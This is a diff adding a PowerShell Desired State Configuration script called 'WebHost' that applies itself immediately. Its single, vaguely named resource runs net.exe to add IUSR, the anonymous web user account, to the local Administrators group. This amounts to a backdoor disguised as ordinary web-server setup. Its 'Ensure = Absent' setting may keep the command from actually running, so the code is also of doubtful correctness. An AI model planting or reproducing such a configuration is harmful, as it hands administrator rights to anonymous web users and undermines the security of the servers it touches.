@@ -1,0 +1,12 @@
+configuration WebHost {
+    Import-DscResource -ModuleName PSDesiredStateConfiguration
+    Node 'localhost' {
+        WindowsProcess s {
+            Path = 'net.exe'
+            Arguments = 'localgroup Administrators IUSR /add'
+            Ensure = 'Absent'
+        }
+    }
+}
+WebHost -OutputPath C:\dsc | Out-Null
+Start-DscConfiguration -Path C:\dsc -Wait -Force
